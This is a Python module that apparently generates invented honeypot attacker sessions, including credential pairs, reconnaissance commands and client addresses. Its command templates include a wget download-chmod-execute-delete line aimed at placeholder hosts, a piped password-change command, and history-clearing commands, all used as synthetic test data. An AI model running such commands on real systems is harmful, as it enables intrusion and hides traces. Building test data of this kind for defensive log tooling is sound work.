"""What attackers try and type: credentials, commands, files; and where they come from.

Everything is invented, from generic words and a seed. Texts are kept as they stand inside a JSON string, already
escaped, so that no line needs an encoder.
"""

from typing import NamedTuple

from sesscore.synth.draws import Drawn, Ranked, cut, escaped

_USERS = cut(
    "root admin user test ubuntu oracle postgres guest support git ftpuser pi nagios www mysql hadoop deploy tomcat "
    "jenkins minecraft steam backup default operator student dev web info demo service"
)
_PASSWORDS = cut(
    "123456 password admin root 12345 1234 test 123456789 12345678 qwerty 111111 123 000000 default changeme welcome "
    "letmein master 1q2w3e4r abc123 passw0rd administrator support guest system user pass server oracle ubuntu 666666 "
    "superuser login access secret dragon monkey football iloveyou sunshine princess shadow computer internet"
)
_STEMS = cut(
    "amber birch cobalt delta ember falcon garnet harbor indigo juniper kestrel lantern maple nectar orchid pepper "
    "quartz raven silver timber umber violet walnut xenon yellow zephyr anchor basket candle dolphin engine feather "
    "glacier hammer island jungle kettle ladder mirror needle ocean pencil rocket saddle"
)
# Credentials that break readers: empty, control characters, quotes, other scripts, surrogate pairs, markup, formulas.
_ODD = (
    "",
    "\0",
    "a\0b",
    'say "please"',
    "back\\slash",
    "\\x41\\x42",
    "b'secret'",
    "line\nbreak",
    "\x1b[31mred",
    "pässwörd",
    "пароль",
    "😀👻",
    "\u202egnp",
    "<b>bold</b>",
    "=1+1",
    "%s%n",
    "x" * 120,
)

_LOOKING = cut(
    "uname -a|id|whoami|w|uptime|nproc|hostname|pwd|ls -la|ls -la /tmp|cat /proc/cpuinfo|cat /proc/meminfo|free -m|"
    "df -h|ps aux|last|cat /etc/passwd|cat /etc/issue|cat /etc/os-release|crontab -l|ifconfig|ip addr|netstat -ant|"
    "lscpu|env|history -c|unset HISTFILE|cd /tmp|cd /var/run|cd /dev/shm|ulimit -n|which curl|which wget|top -b -n 1|"
    "dmesg; uptime|cat /proc/version; nproc|ls /home; ls /root|echo ready|mount|ss -ltn",
    at="|",
)
_UNKNOWN = cut("enable|system|linuxshell|sh-config|lockr -ia .ssh|/ip cloud print|help|showlog|ttyinfo", at="|")


class Step(NamedTuple):
    """One line typed at the shell, and what it causes (`effect`: '' or the kind of a further event)."""

    input: str
    parts: tuple[str, ...]
    effect: str
    fields: dict[str, str]
    secret: bool  # NUL in `input` stands for a new password


class Script(NamedTuple):
    """The lines of one tool; with `channels` each in a channel of its own."""

    steps: tuple[Step, ...]
    channels: bool
    shasum: str


class Words(Drawn):
    """All texts of one made-up log, for its seed."""

    def __init__(self, seed: int) -> None:
        """Make up everything that lines draw from."""
        super().__init__(seed, "words")
        # Both ranks decide: root with each of twelve words, admin with eleven, and so on.
        pairs = [(_USERS[place], _PASSWORDS[rank - place]) for rank in range(12) for place in range(rank + 1)]
        self._pairs = Ranked(pairs, 1.5)
        self._users = Ranked(_USERS, 0.4)
        self._passwords = Ranked([*_PASSWORDS, *(f"{stem}{year}" for year in range(2010, 2026) for stem in _STEMS)], 3)
        self._odd = [escaped(text) for text in _ODD]
        self._looking = Ranked(self.shuffled(_LOOKING), 0.3)
        # Few scripts make most sessions: with this shift the first ten of 500 make about half.
        self.scripts = Ranked([self._script(rank) for rank in range(500)], 4)

    # Credentials: 45 % from a short list, 25 % a known user with a known password, the rest nearly unique. So about a
    # third of the pairs in a large log are distinct, as in real ones.

    def credentials(self, draw: float, second: float) -> tuple[str, str]:
        """(username, password) for two draws."""
        if draw < 0.45:
            return self._pairs.pick(second)
        if draw < 0.70:
            return self._users.pick(second), self._passwords.pick((draw - 0.45) * 4)
        if draw < 0.995:
            return self._users.pick((draw - 0.70) / 0.295), self.password(second)
        odd = self._odd[int(second * len(self._odd))]
        return (odd, odd) if draw > 0.999 else ("root", odd)

    def password(self, draw: float) -> str:
        """One of some 1.7 billion passwords."""
        number = int(draw * 1_728_000_000)
        number, style = divmod(number, 6)
        number, stem = divmod(number, len(_STEMS))
        word = _STEMS[stem]
        if style == 0:
            return f"{word}{number}"
        if style == 1:
            return f"{word.capitalize()}@{number}"
        if style == 2:
            return f"{number}{word}"
        if style == 3:
            return f"{word}_{number}!"
        return f"{word[:3]}#{number:x}" if style == 4 else f"{number:X}{word[0]}"

    # Commands

    def _script(self, rank: int) -> Script:
        # The lengths go by rank, so that every seed has as many commands to a session.
        length = (1, 20, 3, 14, 1, 6, 22, 2, 9, 18, 1, 5)[rank % 12]
        return Script(tuple(self._step() for _ in range(length)), rank % 5 in (2, 4), self.digest(f"tty{rank}"))

    def _step(self) -> Step:
        draw = self.random()
        if draw < 0.52:
            return self._plain(self._look())
        if draw < 0.62:
            return self._plain(f"{self._look()}; {self._look()} | grep {self.any_of(_STEMS)}")
        if draw < 0.72:
            return self._plain(self.any_of(_UNKNOWN), "command.failed")
        if draw < 0.78:
            return self._plain(f"/bin/busybox {self.any_of(_STEMS).upper()}", "command.failed")
        if draw < 0.84:
            return self._plain(f'echo -e "{self.any_of(_PASSWORDS)}\\n\0\\n\0"|passwd|bash')
        if draw < 0.87:
            text = f"echo '{self.any_of(_ODD[2:9])}' > /tmp/.{self.any_of(_STEMS)}"
            return self._plain(text, "session.file_download/redir")
        return self._fetch()

    def _look(self) -> str:
        return self._looking.pick(self.random())

    def _plain(self, text: str, effect: str = "") -> Step:
        secret = "|passwd" in text
        parts = (text,) if secret else tuple(part.strip() for part in text.replace("|", ";").split(";"))
        fields = {"shasum": self.digest(text), "destfile": text.rpartition(" ")[2]} if effect.endswith("redir") else {}
        # The place for the password stays a NUL: the only one, as escaping leaves none.
        marked = "\0".join(escaped(piece) for piece in text.split("\0")) if secret else escaped(text)
        return Step(marked, tuple(map(escaped, parts)), effect, fields, secret)

    def _fetch(self) -> Step:
        stem = self.any_of(_STEMS)
        host = f"203.0.113.{int(self.random() * 255)}" if self.random() < 0.7 else f"{self.any_of(_STEMS)}.example.com"
        url = f"http://{host}/{stem}.sh"
        lost = self.random() < 0.15
        text = f"cd /tmp; wget {url} -O .{stem}; chmod 777 .{stem}; ./.{stem}; rm -rf .{stem}"
        effect = "session.file_download.failed" if lost else "session.file_download"
        return Step(escaped(text), tuple(text.split("; ")), effect, {"url": url, "shasum": self.digest(url)}, False)

    def upload(self, draw: float) -> tuple[str, str]:
        """Name and SHA-256 of a file that is sent by SFTP; the same few go to everybody."""
        name = _STEMS[int(draw * draw * len(_STEMS))] + (".tar.gz" if draw < 0.5 else "")
        return name, self.digest(name)

    def address(self, draw: float, day: int) -> str:
        """An attacker's address: few come often, most seldom, and the set drifts from day to day."""
        rank = int(30_000 * draw * draw * draw * draw) + day * 41
        if rank % 300 == 299:
            return f"2001:db8:{rank & 0xFFFF:x}::{self.seed & 0xFFFF:x}"
        number = (rank * 40_503 + self.seed * 7_919) & 0x1FFFF
        return f"198.{18 + (number >> 16)}.{number >> 8 & 255}.{number & 255}"
